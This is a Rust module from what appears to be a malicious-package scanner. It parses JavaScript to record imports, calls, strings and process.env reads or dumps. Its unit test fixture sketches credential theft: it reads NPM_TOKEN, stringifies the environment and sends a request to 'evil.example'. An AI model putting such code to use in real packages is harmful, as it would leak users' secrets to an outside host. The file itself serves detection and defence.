//! JavaScript facts, from the tree-sitter JavaScript grammar.

use tree_sitter::Node;

use crate::facts::{Call, Facts, Site, compact, line_of, parse, shortened, text_of, unquote, walk};

/// Calls that turn `process.env` into a list or a string: a dump of the environment.
const ENV_DUMP_CALLEES: &[&str] = &["stringify", "keys", "entries", "values"];

/// Extracts the facts of one JavaScript (CommonJS or ES module) file.
pub(crate) fn facts(source: &str) -> Facts {
    let language: tree_sitter::Language = tree_sitter_javascript::LANGUAGE.into();
    parse(&language, source).map_or_else(Facts::default, |tree| facts_of(&tree, source))
}

/// The facts of one JavaScript file and the verdict's data flow and reach for it
/// (`judge::jsflow`), from one parse.
pub(crate) fn facts_and_flow(source: &str) -> (Facts, crate::judge::jsflow::JsFlow) {
    let language: tree_sitter::Language = tree_sitter_javascript::LANGUAGE.into();
    let Some(tree) = parse(&language, source) else {
        let flow = crate::judge::jsflow::JsFlow {
            signals: Vec::new(),
            passive_lines: Vec::new(),
        };
        return (Facts::default(), flow);
    };
    let facts = facts_of(&tree, source);
    let flow = crate::judge::jsflow::analyse(&tree, source);
    (facts, flow)
}

fn facts_of(tree: &tree_sitter::Tree, source: &str) -> Facts {
    let mut facts = Facts::default();
    walk(tree, |node| match node.kind() {
        "call_expression" => call(node, source, &mut facts),
        "new_expression" => construction(node, source, &mut facts),
        "import_statement" | "export_statement" => {
            if let Some(module) = node.child_by_field_name("source") {
                import(&unquote(text_of(module, source)), line_of(node), &mut facts);
            }
        }
        "string" | "template_string" => facts.strings.push(Site {
            text: unquote(text_of(node, source)),
            line: line_of(node),
        }),
        "variable_declarator" => alias(node, source, &mut facts),
        "import_clause" => import_alias(node, source, &mut facts),
        "member_expression" if compact(node, source) == "process.env" => {
            process_env(node, source, &mut facts);
        }
        _ => {}
    });
    facts
}

/// `const cp = require("child_process")` (also with `node:`; `__importDefault(...)`
/// wrappers of TypeScript output keep the module name in the text).
fn alias(node: Node<'_>, source: &str, facts: &mut Facts) {
    let (Some(name), Some(value)) = (
        node.child_by_field_name("name"),
        node.child_by_field_name("value"),
    ) else {
        return;
    };
    if name.kind() != "identifier" {
        return;
    }
    let value_text = compact(value, source);
    if value_text.contains("require(") {
        facts
            .aliases
            .push((text_of(name, source).to_owned(), value_text));
    }
}

/// `import cp from "child_process"`, `import * as cp from "child_process"`.
fn import_alias(node: Node<'_>, source: &str, facts: &mut Facts) {
    let Some(module) = node
        .parent()
        .and_then(|statement| statement.child_by_field_name("source"))
        .map(|m| unquote(text_of(m, source)))
    else {
        return;
    };
    let mut cursor = node.walk();
    for child in node.named_children(&mut cursor) {
        let name = match child.kind() {
            "identifier" => Some(child),
            "namespace_import" => child.named_child(0),
            _ => None,
        };
        if let Some(name) = name {
            facts
                .aliases
                .push((text_of(name, source).to_owned(), module.clone()));
        }
    }
}

fn import(module: &str, line: u32, facts: &mut Facts) {
    let module = module.strip_prefix("node:").unwrap_or(module);
    if module.starts_with('.') {
        facts.local_refs.push(module.to_owned());
    }
    facts.imports.push(Site {
        text: module.to_owned(),
        line,
    });
}

fn call(node: Node<'_>, source: &str, facts: &mut Facts) {
    let Some(function) = node.child_by_field_name("function") else {
        return;
    };
    let arguments = node.child_by_field_name("arguments");
    let first_string = arguments.and_then(|args| first_string_argument(args, source));
    let callee = if function.kind() == "import" {
        "import".to_owned()
    } else {
        compact(function, source)
    };
    if matches!(callee.as_str(), "require" | "import") {
        if let Some(module) = &first_string {
            import(module, line_of(node), facts);
        }
    }
    facts.calls.push(Call {
        callee,
        args: arguments.map(|a| shortened(a, source)).unwrap_or_default(),
        first_string,
        line: line_of(node),
    });
}

fn construction(node: Node<'_>, source: &str, facts: &mut Facts) {
    let Some(constructor) = node.child_by_field_name("constructor") else {
        return;
    };
    let arguments = node.child_by_field_name("arguments");
    facts.calls.push(Call {
        callee: format!("new {}", compact(constructor, source)),
        args: arguments.map(|a| shortened(a, source)).unwrap_or_default(),
        first_string: arguments.and_then(|args| first_string_argument(args, source)),
        line: line_of(node),
    });
}

fn first_string_argument(arguments: Node<'_>, source: &str) -> Option<String> {
    constant_string(arguments.named_child(0)?, source, 0)
}

/// The value of a string literal, or of literals joined with `+` (`'./lib/' + 'u'`: a
/// computed `require` of a file of the package is still that file).
fn constant_string(node: Node<'_>, source: &str, depth: usize) -> Option<String> {
    match node.kind() {
        "string" => Some(unquote(text_of(node, source))),
        "template_string" if node.named_child_count() == 0 => Some(unquote(text_of(node, source))),
        "binary_expression" if depth < 16 => {
            let operator = node.child_by_field_name("operator")?;
            if text_of(operator, source) != "+" {
                return None;
            }
            let left = constant_string(node.child_by_field_name("left")?, source, depth + 1)?;
            let right = constant_string(node.child_by_field_name("right")?, source, depth + 1)?;
            Some(left + &right)
        }
        "parenthesized_expression" if depth < 16 => {
            constant_string(node.named_child(0)?, source, depth + 1)
        }
        _ => None,
    }
}

/// Classifies one use of `process.env`: a single variable, or the whole environment.
fn process_env(node: Node<'_>, source: &str, facts: &mut Facts) {
    let Some(parent) = node.parent() else {
        return;
    };
    let line = line_of(node);
    let is_object = parent
        .child_by_field_name("object")
        .is_some_and(|object| object.id() == node.id());
    match parent.kind() {
        "member_expression" if is_object => {
            if let Some(property) = parent.child_by_field_name("property") {
                facts.env_reads.push(Site {
                    text: text_of(property, source).to_owned(),
                    line,
                });
            }
        }
        "subscript_expression" if is_object => {
            if let Some(index) = parent.child_by_field_name("index") {
                if index.kind() == "string" {
                    facts.env_reads.push(Site {
                        text: unquote(text_of(index, source)),
                        line,
                    });
                }
            }
        }
        "arguments" => {
            let callee = parent
                .parent()
                .and_then(|call| call.child_by_field_name("function"))
                .map(|f| compact(f, source))
                .unwrap_or_default();
            if ENV_DUMP_CALLEES.contains(&crate::facts::last_segment(&callee)) {
                facts.env_dumps.push(Site {
                    text: format!("{callee}(process.env)"),
                    line,
                });
            }
        }
        "for_in_statement" => facts.env_dumps.push(Site {
            text: "for (… in process.env)".to_owned(),
            line,
        }),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_requires_calls_strings_and_env() {
        let f = facts(
            "const https = require('node:https');\nconst x = require('./lib/x');\n\
             https.request({host: 'evil.example'});\n\
             const t = process.env.NPM_TOKEN;\nJSON.stringify(process.env);\n\
             spawn('a', {env: process.env});\n",
        );
        let imports: Vec<&str> = f.imports.iter().map(|s| s.text.as_str()).collect();
        assert_eq!(imports, ["https", "./lib/x"]);
        assert_eq!(f.local_refs, ["./lib/x"]);
        assert!(
            f.calls
                .iter()
                .any(|c| c.callee == "https.request" && c.line == 3)
        );
        assert_eq!(f.env_reads[0].text, "NPM_TOKEN");
        assert_eq!(f.env_dumps.len(), 1, "passing env to a child is not a dump");
        assert_eq!(f.env_dumps[0].line, 5);
        assert!(f.strings.iter().any(|s| s.text == "evil.example"));
    }

    #[test]
    fn es_module_imports_are_seen() {
        let f = facts("import { exec } from 'child_process';\nexec('ls');\n");
        assert_eq!(f.imports[0].text, "child_process");
        assert_eq!(f.calls[0].first_string.as_deref(), Some("ls"));
    }
}
